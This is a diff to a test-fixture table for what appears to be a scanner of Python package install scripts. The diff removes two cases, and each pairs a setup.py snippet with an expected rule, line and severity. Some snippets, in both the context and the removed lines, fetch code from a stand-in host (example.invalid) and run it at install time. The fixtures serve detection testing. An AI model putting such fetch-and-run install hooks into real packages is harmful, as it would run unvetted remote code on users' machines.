@@ -604,25 +604,6 @@ SEVERITY_PATHS = {
         "git.Repo.clone_from('https://example.invalid/x.git', '/tmp/x')\n"
         "subprocess.call(['python3', '/tmp/x/run.py'])\n")},
         "setup.py", 4, S.HIGH, "a repository cloned and its script run at install"),
-    "pv203-bootstrap-from-the-package-index": SevPath("PV203", {
-        "setup.py": "import ez_setup\n\nez_setup.use_setuptools()\n", "ez_setup.py": (
-            "import subprocess\n"
-            "from urllib.request import urlopen\n"
-            "\n"
-            "URL = 'https://pypi.python.org/packages/source/s/setuptools/'\n"
-            "data = urlopen(URL + 'setuptools-0.6.tar.gz').read()\n"
-            "open('setuptools-0.6.tar.gz', 'wb').write(data)\n"
-            "subprocess.call(['python3', 'setup.py', 'install'])\n")},
-        "ez_setup.py", 5, S.MEDIUM, "setuptools' bootstrap: every URL is on the package index"),
-    "pv203-package-index-and-another-host": SevPath("PV203", {"setup.py": (
-        "import subprocess\n"
-        "from urllib.request import urlopen\n"
-        "\n"
-        "INDEX = 'https://files.pythonhosted.org/packages/'\n"
-        "data = urlopen('https://example.invalid/a.bin').read()\n"
-        "open('a.bin', 'wb').write(data)\n"
-        "subprocess.call(['./a.bin'])\n")},
-        "setup.py", 5, S.HIGH, "an index URL beside another host is no bootstrap"),
     "pv206-os-startfile-of-a-literal": SevPath("PV206", {"setup.py": (
         "import os\n"
         "\n"
